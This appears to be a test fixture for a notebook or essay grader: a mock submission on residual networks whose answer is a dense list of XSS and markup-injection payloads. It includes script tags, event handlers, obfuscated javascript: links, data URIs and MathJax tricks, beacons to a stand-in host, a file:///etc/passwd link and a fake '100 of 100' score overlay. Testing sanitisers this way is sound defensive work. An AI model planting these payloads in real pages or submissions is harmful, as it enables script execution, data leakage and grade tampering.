"""The written answer holds scripts, handlers, frames, forms, styles, data addresses, and links that are code.
---
assignment = "residual_networks"
category = "markup"
---
"""
# %% architecture_review
My network has <b>three</b> stages.

<script>alert("essay")</script><img src=x onerror=alert(1)><svg onload=alert(2)><animate href=#x attributeName=href values=javascript:alert(3) /></svg>
<iframe srcdoc="<script>alert(4)</script>"></iframe><object data="data:text/html,<script>alert(5)</script>"></object>
<form action="https://collect.example/"><input name=mark value=8 autofocus onfocus=alert(6)><button formaction=javascript:alert(7)>8 of 8</button></form>
<style>@import "https://collect.example/x.css"; * { background: url(https://collect.example/x.png) } .score { display: none }</style>
<meta http-equiv="refresh" content="0;url=https://collect.example/"><base href="https://collect.example/"><link rel=stylesheet href="//collect.example/x.css">
<details open ontoggle=alert(8)><math><maction actiontype="statusline" xlink:href="javascript:alert(9)">x</maction></math></details>
<a href="jAvAsCrIpT&colon;alert(10)">see here</a> [my model](javascript:alert(11)) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMik8L3NjcmlwdD4=)
[tabs](java	script:alert(13)) [file](file:///etc/passwd) ![beacon](https://collect.example/pixel.png) ![x](x"onerror="alert(14))
<a href=" &#x6A;avascript:alert(15)">x</a> <div style="position:fixed;inset:0;z-index:9999;background:white">Score 100 of 100</div>

$\href{javascript:alert(16)}{\text{formula}}$ $\require{html}\style{background:url(https://collect.example/)}{x}$ $$\unicode{60}script\unicode{62}$$ \\(\class{score}{x}\\)

```html
</code></pre><script>alert(17)</script>
```
<!-- <script>alert(18)</script> --><![CDATA[<script>alert(19)</script>]]><noscript><p title="</noscript><img src=x onerror=alert(20)>"></noscript>
